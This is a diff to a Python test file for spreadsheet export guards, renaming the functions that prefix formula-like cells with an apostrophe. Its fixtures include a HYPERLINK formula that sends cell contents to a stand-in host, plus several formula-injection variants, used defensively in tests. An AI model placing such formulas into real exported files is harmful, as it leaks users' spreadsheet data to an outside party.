@@ -12,7 +12,7 @@ from documents.reading import read_bytes, written
 from likewise.documents import Document
 from likewise.documents.formats import csv as table
 from likewise.documents.formats import tsv, xlsx
-from likewise.documents.formats.guards import guarded, is_like_a_formula, unguarded
+from likewise.documents.formats.cells import guard_cell, is_like_a_formula, unguard_cell
 
 LINK = '=HYPERLINK("https://a.example/?"&A1, "Read on")'
 FORMULAS = [LINK, "+1", "-1+1", "@SUM(A1)", "\t=1", "\r=1", "\n=1", " =1", "\u00a0=1", "\uff1d1"]
@@ -22,22 +22,22 @@ any_text = st.text(st.sampled_from("'=+-@\t\n a\uff0d"), max_size=6)
 
 @pytest.mark.parametrize("text", FORMULAS)
 def test_what_a_spreadsheet_would_run_has_an_apostrophe_before_it(text):
-    assert guarded(text) == f"'{text}"
+    assert guard_cell(text) == f"'{text}"
 
 
 @pytest.mark.parametrize("text", HARMLESS)
 def test_what_it_would_not_stays_as_it_is(text):
-    assert (guarded(text), unguarded(text)) == (text, text)
+    assert (guard_cell(text), unguard_cell(text)) == (text, text)
 
 
 @given(any_text)
 def test_a_guarded_text_is_found_again(text):
-    assert unguarded(guarded(text)) == text
+    assert unguard_cell(guard_cell(text)) == text
 
 
 @given(any_text)
 def test_no_guarded_text_begins_like_a_formula(text):
-    assert guarded(text).startswith("'") or not is_like_a_formula(text)
+    assert guard_cell(text).startswith("'") or not is_like_a_formula(text)
 
 
 def rows(module, document, *, delimiter, notes):
